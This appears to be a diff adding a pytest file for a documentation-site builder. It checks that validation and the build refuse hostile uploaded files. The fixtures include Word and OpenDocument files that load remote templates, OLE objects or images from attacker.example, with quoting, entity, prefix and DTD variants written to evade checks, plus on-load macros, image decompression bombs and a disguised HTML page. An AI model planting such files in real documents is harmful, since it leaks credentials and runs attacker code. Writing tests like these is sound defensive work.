@@ -1,0 +1,267 @@
+"""Fourth fresh-clone attacker (attack4/FINDINGS.md 1, 3, 4 and 10): what is
+inside a file, read as the program that opens it reads it.
+
+Office documents are read with an XML parser, so quoting, spaces, character
+references and namespace prefixes no longer hide an external template; a
+JPEG's fill bytes no longer hide its size; an image is decoded, so a damaged
+one behind a valid header is refused by validate and not by the PDF step;
+and editors' files in docs/ get the same checks, in validate and in the
+output gate.
+"""
+from __future__ import annotations
+
+import io
+import re
+import struct
+import zipfile
+
+import pytest
+
+from conftest import build, make_project, run_cli, write_files
+from test_validate import GOOD, tree_digest
+
+A = "at-a-glance/case.md"
+RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
+TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+XML = '<?xml version="1.0" encoding="UTF-8"?>'
+
+
+def docx(settings_rels: str) -> bytes:
+    """A minimal Word file whose settings attach the template `settings_rels` names (attack4-repro/mkdocx.py)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+                   'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+                   'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>')
+        z.writestr("_rels/.rels", XML + f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="http://schemas.'
+                   'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
+                   "</Relationships>")
+        z.writestr("word/document.xml", XML + '<w:document xmlns:w="http://schemas.openxmlformats.org/'
+                   'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Checklist</w:t></w:r></w:p></w:body>'
+                   "</w:document>")
+        z.writestr("word/_rels/document.xml.rels", XML + f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
+                   f'Type="{HYPERLINK}" Target="https://www.gov.scot/" TargetMode="External"/></Relationships>')
+        z.writestr("word/settings.xml", XML + '<w:settings xmlns:w="http://schemas.openxmlformats.org/'
+                   'wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+                   'relationships"><w:attachedTemplate r:id="rId1"/></w:settings>')
+        z.writestr("word/_rels/settings.xml.rels", settings_rels)
+    return out.getvalue()
+
+
+def rels(attributes: str, quote: str = '"', prefix: str = "") -> str:
+    element = f"{prefix}:Relationship" if prefix else "Relationship"
+    root = f"{prefix}:Relationships" if prefix else "Relationships"
+    xmlns = f"xmlns:{prefix}" if prefix else "xmlns"
+    return XML + f"<{root} {xmlns}={quote}{RELS}{quote}><{element} {attributes}/></{root}>"
+
+
+def template(target: str = "file://attacker.example/share/t.dotm", mode: str = 'TargetMode="External"') -> str:
+    return f'Id="rId1" Type="{TEMPLATE}" Target="{target}" {mode}'
+
+
+def odt(body: str, extra: dict[str, str] | None = None) -> bytes:
+    """A minimal OpenDocument text (attack4-repro/mkodt.py)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as z:
+        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
+        z.writestr("content.xml", XML + '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:'
+                   'xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:'
+                   'oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
+                   'xmlns:l="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:'
+                   'script:1.0" office:version="1.2"><office:scripts/>' + body + "</office:document-content>")
+        for name, text in (extra or {}).items():
+            z.writestr(name, text)
+    return out.getvalue()
+
+
+def odt_image(href_attribute: str) -> str:
+    return ("<office:body><office:text><text:p><draw:frame><draw:image " + href_attribute
+            + ' xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text>'
+              "</office:body>")
+
+
+MACRO_EVENT = ('<office:event-listeners><script:event-listener script:language="ooo:script" '
+               'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic'
+               '&amp;location=document" xlink:type="simple"/></office:event-listeners>'
+               "<office:body><office:text><text:p>x</text:p></office:text></office:body>")
+LOADS = "from outside the document when it is opened"
+
+# (file name, content, what the refusal says): the attacker's variants, each
+# accepted before this change but the first.
+OFFICE = [
+    ("t-dq.docx", docx(rels(template())), f"loads `file://attacker.example/share/t.dotm` {LOADS}"),
+    ("t-sq.docx", docx(rels(template().replace('"', "'"), quote="'")), LOADS),
+    ("t-ws.docx", docx(rels(template(mode='TargetMode = "External"'))), LOADS),
+    ("t-ent.docx", docx(rels(template(mode='TargetMode="&#69;xternal"'))), LOADS),
+    ("t-prefix.docx", docx(rels(template(), prefix="pr")), LOADS),
+    ("t-hyper.docx", docx(rels(template() + ' Note="/hyperlink"')), LOADS),
+    ("t-https.docx", docx(rels(template("https://attacker.example/hyperlink/t.dotm"))),
+     f"loads `https://attacker.example/hyperlink/t.dotm` {LOADS}"),
+    ("t-ole.docx", docx(rels('Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                             'oleObject" Target="https://attacker.example/o.bin" TargetMode="External"')), LOADS),
+    ("t-link.docx", docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="file://attacker.example/s" '
+                              'TargetMode="External"')), "a document may link only to web"),
+    ("t-dtd.docx", docx(XML + '<!DOCTYPE r [<!ENTITY e "External">]>' + rels(template(mode='TargetMode="&e;"'))[
+        len(XML):]), "declares a DTD"),
+    ("o-unc.odt", odt(odt_image('xlink:href="&#92;&#92;attacker.example&#92;share&#92;a.png"')),
+     "loads `\\\\attacker.example\\share\\a.png`"),
+    ("o-prefix.odt", odt(odt_image('l:href="file://attacker.example/share/a.png"')),
+     f"loads `file://attacker.example/share/a.png` {LOADS}"),
+    ("o-entity.odt", odt(odt_image('xlink:href="file:&#47;&#47;attacker.example/share/a.png"')), LOADS),
+    ("o-basic.odt", odt(MACRO_EVENT, {"Basic/Standard/Module1.xml": "<x/>", "Scripts/python/evil.py": "import os"}),
+     "holds macros (`Basic/Standard/Module1.xml`)"),
+    ("o-event.odt", odt(MACRO_EVENT), "holds macros (`office:event-listeners`)"),
+]
+# A Word file linking to the web, and an OpenDocument file with its own
+# picture and a web link: published.
+GOOD_OFFICE = {
+    "fine.docx": docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="mailto:team@example.org" TargetMode="External"')),
+    "fine.odt": odt('<office:body><office:text><text:p><text:a xlink:type="simple" xlink:href="https://www.gov.scot/">'
+                    "web</text:a><draw:frame><draw:image xlink:href=\"Pictures/a.png\" xlink:type=\"simple\" "
+                    'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text></office:body>',
+                    {"Pictures/a.png": "x"}),
+}
+
+
+def with_downloads(names: list[str], title: str = "A good briefing") -> str:
+    items = "".join(f"\n  - file: files/{name}\n    label: File {number}" for number, name in enumerate(names))
+    return GOOD.replace("status: current", "status: current\ndownloads:" + items).replace("A good briefing", title)
+
+
+def problem_lines(out: str, rule: str) -> list[str]:
+    return [line for line in out.splitlines() if f"[{rule}]" in line]
+
+
+def test_office_documents_are_read_as_their_programs_read_them(tmp_path):
+    """Each variant is refused at its download's line, by validate and by the
+    build, which leaves the site as it was; the good documents are not named,
+    and publish once the bad ones are gone."""
+    project = make_project(tmp_path / "p", content={"deeper-dives/fine.md": with_downloads(list(GOOD_OFFICE), "Fine"),
+                                                    **{f"deeper-dives/files/{n}": c for n, c in GOOD_OFFICE.items()}})
+    assert build(project).returncode == 0
+    before = tree_digest(project / "site")
+    write_files(project, {A: with_downloads([name for name, _, _ in OFFICE]),
+                          **{f"at-a-glance/files/{name}": content for name, content, _ in OFFICE}})
+    first = GOOD.split("\n").index("status: current") + 3
+    for command in (("validate",), ("build", "--site-dir", "site")):
+        result = run_cli(project, *command)
+        out = result.stdout + result.stderr
+        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
+        refused = problem_lines(out, "unsafe-file")
+        for number, (name, _, says) in enumerate(OFFICE):
+            line = first + 2 * number
+            assert any(l.startswith(f"{A}:{line}:") and f"`files/{name}`" in l and says in l for l in refused), \
+                (command, name, says, refused)
+        assert not any("fine" in line for line in refused), refused
+        assert "hint: Export the file again" in out, out[-2000:]
+    assert tree_digest(project / "site") == before
+    (project / A).unlink()
+    result = build(project)
+    assert result.returncode == 0, result.stderr[-2000:]
+    assert (project / "site" / "deeper-dives" / "files" / "fine.odt").exists()
+
+
+# --- Images --------------------------------------------------------------------
+
+def jpeg(width: int = 64, height: int = 64) -> bytes:
+    from PIL import Image
+    out = io.BytesIO()
+    Image.new("RGB", (width, height), "teal").save(out, "JPEG")
+    return out.getvalue()
+
+
+def fill_byte(data: bytes, width: int, height: int) -> bytes:
+    """A 0xFF fill byte before the frame header, which declares width x height (attack4-repro/jpeg_fill_byte.py)."""
+    at = data.find(b"\xff\xc0")
+    frame = bytearray(data[at:])
+    frame[5:9] = struct.pack(">HH", height, width)
+    return data[:at] + b"\xff" + bytes(frame)
+
+
+def gif(frame_width: int, frame_height: int) -> bytes:
+    """A 10 x 10 GIF whose one frame is `frame_width` x `frame_height` with 2 bytes of LZW: truncated."""
+    return (b"GIF89a" + struct.pack("<HHBBB", 10, 10, 0, 0, 0) + b","
+            + struct.pack("<HHHHB", 0, 0, frame_width, frame_height, 0) + b"\x08\x02\x4c\x01\x00;")
+
+
+IMAGES = [
+    ("fill-60000.jpg", fill_byte(jpeg(), 60000, 60000), "declares 60,000 x 60,000 pixels"),
+    ("fill-16000.jpg", fill_byte(jpeg(), 16000, 16000), "declares 16,000 x 16,000 pixels"),
+    ("no-frame.jpg", jpeg().replace(b"\xff\xc0", b"\xff\xe5"), "declares no size (no frame header was found)"),
+    ("truncated.gif", gif(100, 100), "cannot be shown: it is damaged or not a GIF image"),
+    ("bomb.gif", gif(8000, 8000), "more pixels than the limit of 50 megapixels"),
+    ("png-named.jpg", __import__("conftest").real_png(), "is not a JPEG image"),
+]
+
+
+def test_images_are_decoded_within_the_pixel_budget(tmp_path):
+    """A fill byte hid a 60,000 x 60,000 JPEG from the size check (10.6 GB
+    and 33 s in the build); a JPEG with no frame header passed as 0 x 0; a
+    truncated GIF passed validate and failed the PDF. Each is refused at its
+    image's line by validate and by the build; a real JPEG with a fill byte
+    is fine."""
+    body = "".join(f"![Chart {n}](files/{name})\n\n" for n, (name, _, _) in enumerate(IMAGES))
+    project = make_project(tmp_path / "p", content={
+        A: GOOD + "\n" + body, **{f"at-a-glance/files/{name}": data for name, data, _ in IMAGES}})
+    first = GOOD.count("\n") + 2
+    for command in (("validate",), ("build", "--site-dir", "site")):
+        result = run_cli(project, *command)
+        out = result.stdout + result.stderr
+        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
+        refused = problem_lines(out, "unsafe-file")
+        for number, (name, _, says) in enumerate(IMAGES):
+            assert any(l.startswith(f"{A}:{first + 2 * number}:") and f"`files/{name}`" in l and says in l
+                       for l in refused), (command, name, refused)
+        assert "[pdf]" not in out
+        assert not (project / "site").exists()
+    write_files(project, {A: GOOD + "\n![A chart](files/fine.jpg)\n", "at-a-glance/files/fine.jpg":
+                          fill_byte(jpeg(), 64, 64)})
+    result = build(project)
+    assert result.returncode == 0, result.stderr[-2000:]
+
+
+# --- Editors' files in docs/ -----------------------------------------------------
+
+EDITOR_FILES = {
+    "docs/about/template.docx": (docx(rels(template())), f"loads `file://attacker.example/share/t.dotm` {LOADS}"),
+    "docs/about/notes.txt": (b"<!doctype html><html><body><script>alert(1)</script></body></html>",
+                             "is not Text: it is a web page"),
+    "docs/about/data.csv": (b"a,b\n\0\0binary", "is not CSV: it holds binary data"),
+}
+DOCS_CHECK_OFF = '''
+"""Test only: validate's check of editors' files switched off, to show the gate holds alone."""
+import resource_library.docs_pages as docs_pages
+docs_pages.content_problem = lambda path: None
+'''
+
+
+def test_editors_files_get_the_checks_downloads_get(tmp_path):
+    """A template-fetching Word file, an HTML page named notes.txt and a CSV
+    of NUL bytes in docs/about/ were published: validate and the build now
+    refuse each at the file, and the output gate does too by itself."""
+    project = make_project(tmp_path / "p", content={"deeper-dives/valid.md": GOOD})
+    assert build(project).returncode == 0
+    before = tree_digest(project / "site")
+    write_files(project, {path: data for path, (data, _) in EDITOR_FILES.items()})
+    for command in (("validate",), ("build", "--site-dir", "site")):
+        result = run_cli(project, *command)
+        out = result.stdout + result.stderr
+        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
+        for path, (_, says) in EDITOR_FILES.items():
+            assert re.search(rf"^{re.escape(path)}:1:1 \[unsafe-file\] {re.escape(path)} .*{re.escape(says)}", out,
+                             re.M), (command, path, out[-3000:])
+    assert tree_digest(project / "site") == before
+    # The gate alone: validate's check switched off by a hook loaded after the library's.
+    write_files(project, {"hooks/switch_off.py": DOCS_CHECK_OFF})
+    config = (project / "mkdocs.yml").read_text()
+    (project / "mkdocs.yml").write_text(config.replace("  - hooks/library_hook.py",
+                                                       "  - hooks/library_hook.py\n  - hooks/switch_off.py"))
+    result = build(project)
+    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-3000:]
+    assert "[unsafe-file]" not in result.stderr
+    for path, (_, says) in EDITOR_FILES.items():
+        published = path.removeprefix("docs/")
+        assert re.search(rf"^{re.escape(path)}:1:1 \[unsafe-output\] the published `{re.escape(published)}` "
+                         rf".*{re.escape(says)}", result.stderr, re.M), (path, result.stderr[-3000:])
+    assert tree_digest(project / "site") == before
